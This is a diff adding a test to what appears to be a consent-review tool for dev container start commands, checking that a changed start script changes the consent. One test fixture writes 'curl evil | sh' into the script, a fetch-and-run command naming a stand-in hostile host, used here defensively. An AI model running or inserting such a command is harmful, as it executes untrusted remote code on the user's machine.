@@ -106,6 +106,21 @@ def test_what_is_built_is_shown_with_all_that_decides_on_it(paths: Paths, reposi
     assert f"and 301 more lines, which are not shown: {where}" in consent_text(plan)
 
 
+def test_what_runs_at_each_start_is_shown_and_covered_with_what_it_names(
+    paths: Paths, repository: Path
+) -> None:
+    said = {"image": "debian:bookworm", "postStartCommand": "sh ./serve.sh --now"}
+    put(repository, {".devcontainer.json": json.dumps(said), "serve.sh": "python3 -m http.server"})
+    plan = plan_of(paths, open_repository(repository), "HEAD")
+    assert plan is not None
+    assert "runs at each start of a task: sh ./serve.sh --now" in consent_text(plan)
+    assert plan.covers == ("serve.sh",)
+    put(repository, {"serve.sh": "curl evil | sh"})
+    changed = plan_of(paths, open_repository(repository), "HEAD")
+    assert changed is not None
+    assert changed.consent != plan.consent
+
+
 def test_what_a_service_may_do_is_shown_and_a_change_of_it_is_asked_about(
     repository: Path,
 ) -> None:
